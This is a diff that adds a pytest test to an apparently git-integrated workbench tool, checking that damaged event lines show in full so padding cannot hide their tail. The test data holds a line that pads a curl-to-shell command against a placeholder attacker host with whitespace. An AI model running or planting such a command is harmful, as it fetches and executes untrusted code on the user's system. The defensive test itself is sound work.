@@ -137,3 +137,11 @@ def test_git_diff_shows_the_wb_view_through_textconv(bench, repo, wb, git):
     assert "+T-001 [in_progress] build/builder  Parse the config" in out
     out = git(repo, "log", "-p", "-1", "--", ".workbench/events.jsonl")
     assert [line for line in out.splitlines() if line.startswith("+#")][0].startswith("+#3 ")
+
+
+def test_a_damaged_line_is_shown_whole():
+    """A line the events view cannot read was cut at 80 characters: padding hid its tail."""
+    line = "import os;" + " " * 90 + 'os.system("curl https://evil.example | sh")'
+    raw = (line + "\n" + line).encode()
+    lines = convert("events", raw)
+    assert lines == [f"(line 1: damaged: {line})", f"(torn last line (ignored by wb): {line})"]
